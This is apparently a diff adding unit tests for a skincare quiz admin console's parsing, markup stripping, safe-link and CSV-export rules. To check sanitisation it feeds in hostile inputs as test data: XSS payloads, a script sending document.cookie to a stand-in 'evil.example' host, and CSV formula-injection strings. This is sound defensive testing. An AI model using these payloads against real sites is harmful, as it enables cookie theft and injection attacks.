@@ -1,0 +1,319 @@
+// The console's pure rules: summary/fallback of quiz data (well-formed, malformed, empty, hostile), markup
+// stripping, safe links, CSV escaping, counters and the dashboard's figures.
+import { describe, expect, it, vi } from 'vitest';
+import type { QuizSubmission } from '@shared/schemas/quiz';
+import { categoryLabel, categoryStyle, UNKNOWN_CATEGORY } from './categories';
+import { csvCell, csvFileName, submissionsCsv, toCsv } from './csv';
+import { conversionPercent, sessionTitle } from './figures';
+import { decodeEntities, safeUrl, stripMarkup } from './markup';
+import { buildResponses, buildSkinSummary, CAPTURED, customerName, NOT_SPECIFIED, structuredLines } from './quiz-parsing';
+import { countByStatus, statusLabel } from './status';
+
+const raw = (data: unknown) => ({ question: 'Raw Data', answer: typeof data === 'string' ? data : JSON.stringify(data) });
+
+const WELL_FORMED = {
+  answersByBlock: {
+    block_e4466449: { value: '25-34' },
+    block_cdc78df5: { value: 'Combination' },
+    block_9038ec7e: { value: ['Breakouts', 'Dark spots'] },
+    block_e6310ca6: { value: 'Serums' },
+    block_329aaeff: { value: 'Intermediate' },
+    block_a2ad2c93: { value: 'Never used retinol' },
+  },
+  recommendationsBySlot: {
+    'slot-1': [
+      {
+        title: 'Clarifying 2% Salicylic Acid Cleanser',
+        price: { amount: '18.5', currencyCode: 'GBP' },
+        slotDescription: '<p><strong>Cleanse:</strong> 2% salicylic acid clears <em>breakouts</em>.</p>',
+        image: { url: '/images/products/cleanser.svg' },
+        onlineStoreUrl: 'https://www.skincircle.co.uk/products/cleanser',
+      },
+    ],
+    'slot-2': [
+      { title: 'Dark Spot Serum', price: { amount: 42, currencyCode: 'EUR' }, slotDescription: 'Fades marks', image: { url: 'https://cdn.example.com/s.png' }, onlineStoreUrl: 'https://www.skincircle.co.uk/products/serum' },
+    ],
+  },
+};
+
+describe('Skin Assessment Summary (SPEC §2 rule)', () => {
+  it('reads the six blocks by their id suffix, in order, lists joined', () => {
+    const summary = buildSkinSummary([{ question: 'What is your skin type?', answer: 'Dry' }, raw(WELL_FORMED)])!;
+    expect(summary.fields).toEqual([
+      { label: 'Age', value: '25-34' },
+      { label: 'Skin Type', value: 'Combination' },
+      { label: 'Main Concerns', value: 'Breakouts, Dark spots' },
+      { label: 'Preferred Products', value: 'Serums' },
+      { label: 'Routine Level', value: 'Intermediate' },
+      { label: 'Retinol Experience', value: 'Never used retinol' },
+    ]);
+  });
+
+  it('lists every slot’s recommendations with pound prices (whatever the currency), plain-text descriptions and safe links', () => {
+    const { recommendations } = buildSkinSummary([raw(WELL_FORMED)])!;
+    expect(recommendations).toEqual([
+      {
+        title: 'Clarifying 2% Salicylic Acid Cleanser',
+        price: '£18.50',
+        description: 'Cleanse: 2% salicylic acid clears breakouts.',
+        imageUrl: '/images/products/cleanser.svg',
+        productUrl: 'https://www.skincircle.co.uk/products/cleanser',
+      },
+      { title: 'Dark Spot Serum', price: '£42.00', description: 'Fades marks', imageUrl: 'https://cdn.example.com/s.png', productUrl: 'https://www.skincircle.co.uk/products/serum' },
+    ]);
+  });
+
+  it('shows Not specified for missing, empty or unusable block values', () => {
+    const summary = buildSkinSummary([raw({ answersByBlock: { block_e4466449: { value: '' }, block_cdc78df5: { value: [] }, block_9038ec7e: { value: { nested: 1 } }, other_block: { value: 'x' } } })])!;
+    expect(summary.fields.map((f) => f.value)).toEqual(Array(6).fill(NOT_SPECIFIED));
+    expect(summary.recommendations).toEqual([]);
+  });
+
+  it('is absent without a Raw Data question, with an empty or non-object answersByBlock, or with JSON that is not an object', () => {
+    for (const questions of [
+      [],
+      [{ question: 'What is your skin type?', answer: '{"answersByBlock":{"block_e4466449":{"value":"25-34"}}}' }],
+      [raw({ answersByBlock: {} })],
+      [raw({ answersByBlock: [] })],
+      [raw({ answersByBlock: 'block_e4466449' })],
+      [raw({ name: 'Hannah', email: 'h@example.net' })],
+      [raw('[1,2,3]')],
+      [raw('"just a string"')],
+      [raw('null')],
+    ]) {
+      expect(buildSkinSummary(questions)).toBeNull();
+    }
+  });
+
+  it('logs malformed Raw Data and gives no summary (SPEC §8)', () => {
+    const log = vi.fn();
+    const truncated = '{"answersByBlock": {"block_e4466449": {"value": "35-44"}, "block_9038ec7e": {"value": ["Enlarged pores", ';
+    expect(buildSkinSummary([raw(truncated)], log)).toBeNull();
+    expect(log).toHaveBeenCalledOnce();
+    expect(log.mock.calls[0][0]).toContain('Raw Data');
+  });
+
+  it('skips broken recommendations and hides what is unsafe or unusable', () => {
+    const { recommendations } = buildSkinSummary([
+      raw({
+        answersByBlock: { block_e4466449: { value: '18-24' } },
+        recommendationsBySlot: {
+          a: [null, 'text', { price: { amount: '5.00' } }, { title: '  ' }],
+          b: {
+            title: 'Odd One',
+            price: { amount: 'twelve pounds' },
+            image: { url: 'javascript:alert(1)' },
+            onlineStoreUrl: 'javascript:alert(document.cookie)',
+            slotDescription: 42,
+          },
+          c: [{ title: 'Neg', price: { amount: '-3.00' }, image: '//evil.example/x.png', onlineStoreUrl: 'data:text/html,<script>alert(1)</script>' }],
+          d: 'not a list',
+        },
+      }),
+    ])!;
+    expect(recommendations).toEqual([
+      { title: 'Odd One', price: null, description: '', imageUrl: null, productUrl: null },
+      { title: 'Neg', price: null, description: '', imageUrl: null, productUrl: null },
+    ]);
+  });
+
+  it('never lets markup or script through: descriptions and titles come back as plain text', () => {
+    const hostile = {
+      answersByBlock: { block_cdc78df5: { value: '<img src=x onerror=alert(1)>Oily' } },
+      recommendationsBySlot: {
+        s: [
+          {
+            title: '<b>Serum</b><script>alert("t")</script>',
+            slotDescription:
+              '<p onclick="alert(1)">Great <a href="javascript:alert(1)">serum</a></p><script>document.location="https://evil.example?c="+document.cookie</script><style>body{display:none}</style><img src=x onerror="alert(\'>\')"><!-- <script>alert(2)</script> -->done',
+            image: { url: 'https://cdn.example.com/a.png" onerror="alert(1)' },
+          },
+        ],
+      },
+    };
+    const summary = buildSkinSummary([raw(hostile)])!;
+    const rec = summary.recommendations[0];
+    expect(rec.title).toBe('Serum');
+    expect(rec.description).toBe('Great serum done');
+    for (const text of [rec.title, rec.description]) {
+      expect(text).not.toContain('<');
+      expect(text).not.toMatch(/alert|script|onerror|cookie/);
+    }
+    // The image address is percent-encoded by URL parsing: it can never close the attribute.
+    expect(rec.imageUrl).not.toContain('"');
+    // A block value is shown as written — as text, which React escapes; it is never parsed as HTML.
+    expect(summary.fields[1].value).toBe('<img src=x onerror=alert(1)>Oily');
+  });
+});
+
+describe('Quiz Responses fallback', () => {
+  it('shows plain answers as Response text, exactly as given (hostile text stays text)', () => {
+    const hostile = 'My skin reacts <img src=x onerror=alert(1)> <script>alert("xss")</script>';
+    expect(buildResponses([{ question: 'What is your skin type?', answer: 'Oily' }, { question: 'Anything else?', answer: hostile }, { question: 'Steps', answer: '2' }])).toEqual([
+      { question: 'What is your skin type?', kind: 'plain', text: 'Oily' },
+      { question: 'Anything else?', kind: 'plain', text: hostile },
+      { question: 'Steps', kind: 'plain', text: '2' },
+    ]);
+  });
+
+  it('shows JSON object answers as Structured Data: Name, Email, Quiz, then labelled blocks (others Response)', () => {
+    const [item] = buildResponses([
+      raw({
+        name: 'Hannah Wright',
+        email: 'hannah@example.net',
+        quiz: 'Skin Circle Skin Assessment',
+        answersByBlock: { block_329aaeff: { value: 'Beginner' }, block_e4466449: { value: '45-54' }, block_ffffffff: { value: ['A', 'B'] }, block_0: { value: '' } },
+      }),
+    ]);
+    expect(item).toEqual({
+      question: 'Raw Data',
+      kind: 'structured',
+      lines: [
+        { label: 'Name', value: 'Hannah Wright' },
+        { label: 'Email', value: 'hannah@example.net' },
+        { label: 'Quiz', value: 'Skin Circle Skin Assessment' },
+        { label: 'Routine Level', value: 'Beginner' },
+        { label: 'Age Range', value: '45-54' },
+        { label: 'Response', value: 'A, B' },
+      ],
+    });
+  });
+
+  it('says the data was captured when a JSON object has nothing to extract', () => {
+    expect(buildResponses([raw({ answersByBlock: {}, something: { deep: true } }), raw({})])).toEqual([
+      { question: 'Raw Data', kind: 'captured' },
+      { question: 'Raw Data', kind: 'captured' },
+    ]);
+    expect(CAPTURED).toBe('Quiz data captured (details available in system)');
+  });
+
+  it('shows malformed JSON, arrays and numbers as plain Response text', () => {
+    const truncated = '{"answersByBlock": {"block_e4466449": ';
+    expect(buildResponses([raw(truncated), raw('[1,2]'), raw('42')]).map((r) => r.kind)).toEqual(['plain', 'plain', 'plain']);
+    expect(buildResponses([raw(truncated)])[0]).toMatchObject({ text: truncated });
+  });
+
+  it('copes with an empty list and with junk entries', () => {
+    expect(buildResponses([])).toEqual([]);
+    expect(buildResponses([{ question: 1, answer: null } as never])).toEqual([{ question: '', kind: 'plain', text: '' }]);
+    expect(structuredLines({ name: { first: 'x' }, email: 7 })).toEqual([{ label: 'Email', value: '7' }]);
+  });
+});
+
+describe('stripMarkup', () => {
+  const cases: Array<[string, string]> = [
+    ['<p>Hello <strong>world</strong></p>', 'Hello world'],
+    ['line one<br/>line two', 'line one line two'],
+    ['a < b and c > d', 'a < b and c > d'],
+    ['I <3 SPF', 'I <3 SPF'],
+    ['<a title="x > y" href="#">link</a>', 'link'],
+    ["<a title='it\"s'>q</a>", 'q'],
+    ['<SCRIPT type="text/javascript">alert(1)</SCRIPT>after', 'after'],
+    ['<script>if (a < b) alert("</scrip")</script >ok', 'ok'],
+    ['<style>p{color:red}</style>styled', 'styled'],
+    ['<!-- hidden -->shown', 'shown'],
+    ['<!DOCTYPE html><?xml version="1.0"?>doc', 'doc'],
+    ['Fish &amp; chips &lt;b&gt; &#163;5 &#x2014; &pound;6 &unknown; &', 'Fish & chips <b> £5 — £6 &unknown; &'],
+    ['<b>unclosed tag', 'unclosed tag'],
+    ['<img src=x onerror=alert(1)', ''],
+    ['<script>never closed', ''],
+    ['  lots   of\n\n space  ', 'lots of space'],
+  ];
+  for (const [input, expected] of cases) {
+    it(`${JSON.stringify(input).slice(0, 50)} → ${JSON.stringify(expected)}`, () => expect(stripMarkup(input)).toBe(expected));
+  }
+
+  it('caps the length and ignores non-text', () => {
+    expect(stripMarkup('x'.repeat(50), 10)).toBe(`${'x'.repeat(9)}…`);
+    expect(stripMarkup(undefined)).toBe('');
+    expect(stripMarkup({ html: '<p>' })).toBe('');
+  });
+
+  it('does not decode control characters from entities', () => {
+    expect(decodeEntities('a&#0;b&#x1b;c&#65;')).toBe('a&#0;b&#x1b;cA');
+  });
+});
+
+describe('safeUrl', () => {
+  it('allows http(s), and site paths only when asked', () => {
+    expect(safeUrl('https://www.skincircle.co.uk/p')).toBe('https://www.skincircle.co.uk/p');
+    expect(safeUrl('/images/a.svg')).toBeNull();
+    expect(safeUrl('/images/a.svg', { allowRelative: true })).toBe('/images/a.svg');
+    for (const bad of ['javascript:alert(1)', ' JavaScript:alert(1)', 'data:text/html,x', '//evil.example/x', '/\\evil.example', 'vbscript:x', '', 42, null]) {
+      expect(safeUrl(bad, { allowRelative: true })).toBeNull();
+    }
+  });
+});
+
+describe('CSV export', () => {
+  it('escapes quotes, commas and new lines, and defuses formulas', () => {
+    expect(csvCell('plain')).toBe('plain');
+    expect(csvCell('a,b')).toBe('"a,b"');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('two\nlines')).toBe('"two\nlines"');
+    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
+    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1`).replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
+    expect(csvCell(null)).toBe('');
+    expect(toCsv([['a', 'b'], ['c', 'd']])).toBe('a,b\r\nc,d\r\n');
+  });
+
+  it('writes one row per submission under the headings', () => {
+    const s = {
+      id: '1',
+      externalId: 'qz_1',
+      createdAt: '2026-03-05T10:00:00.000Z',
+      updatedAt: '2026-03-05T10:00:00.000Z',
+      quizName: 'Quiz',
+      email: 'a@example.com',
+      firstName: 'Ada',
+      lastName: null,
+      fullName: '=cmd|calc',
+      phone: '+44 7700 900123',
+      questions: [],
+      status: 'pending',
+      reviewNotes: 'Called, "keen"',
+      history: [],
+    } satisfies QuizSubmission;
+    const lines = submissionsCsv([s]).split('\r\n');
+    expect(lines[0]).toBe('Submitted,Name,First name,Last name,Email,Phone,Quiz,Status,Review notes,Provider id');
+    expect(lines[1]).toBe(`2026-03-05T10:00:00.000Z,'=cmd|calc,Ada,,a@example.com,'+44 7700 900123,Quiz,Pending Review,"Called, ""keen""",qz_1`);
+    expect(csvFileName(new Date('2026-03-05T23:30:00Z'))).toBe('quiz-submissions-2026-03-05.csv');
+    expect(csvFileName(new Date('2026-07-05T23:30:00Z'), 'pending')).toBe('quiz-submissions-pending-2026-07-06.csv');
+  });
+});
+
+describe('labels and figures', () => {
+  it('names customers: full name, else first name, else Unknown Customer', () => {
+    expect(customerName({ fullName: 'Sophie Bennett', firstName: 'Sophie' })).toBe('Sophie Bennett');
+    expect(customerName({ fullName: '  ', firstName: 'Chloe' })).toBe('Chloe');
+    expect(customerName({ fullName: null, firstName: null })).toBe('Unknown Customer');
+  });
+
+  it('counts statuses and labels pending as Pending Review', () => {
+    const list = (['pending', 'pending', 'reviewed', 'contacted', 'completed', 'completed', 'completed'] as const).map((status) => ({ status }));
+    expect(countByStatus(list)).toEqual({ total: 7, pending: 2, reviewed: 1, contacted: 1, completed: 3 });
+    expect(countByStatus([])).toEqual({ total: 0, pending: 0, reviewed: 0, contacted: 0, completed: 0 });
+    expect(statusLabel('pending')).toBe('Pending Review');
+  });
+
+  it('computes conversion as a rounded percentage, 0 with no sessions', () => {
+    expect(conversionPercent(0, 0)).toBe(0);
+    expect(conversionPercent(5, 7)).toBe(71);
+    expect(conversionPercent(1, 8)).toBe(13); // 12.5 rounds up
+    expect(conversionPercent(3, 3)).toBe(100);
+  });
+
+  it('titles a session by email, else Session and 8 characters of its id', () => {
+    expect(sessionTitle({ email: 'a@example.com', sessionId: 'x' })).toBe('a@example.com');
+    expect(sessionTitle({ email: null, sessionId: '5d07e3b9-seed-penny-0003' })).toBe('Session 5d07e3b9');
+  });
+
+  it('paints known categories and greys unknown ones, with underscores as spaces', () => {
+    expect(categoryStyle('acne')).not.toEqual(UNKNOWN_CATEGORY);
+    expect(categoryStyle('made_up')).toEqual(UNKNOWN_CATEGORY);
+    expect(categoryStyle('toString')).toEqual(UNKNOWN_CATEGORY);
+    const known = ['acne', 'dryness', 'oily_skin', 'sensitive_skin', 'anti_aging', 'pigmentation', 'product_recommendation', 'skincare_routine', 'general_question'];
+    expect(new Set(known.map((c) => categoryStyle(c).dot)).size).toBe(known.length);
+    expect(categoryLabel('product_recommendation')).toBe('product recommendation');
+  });
+});
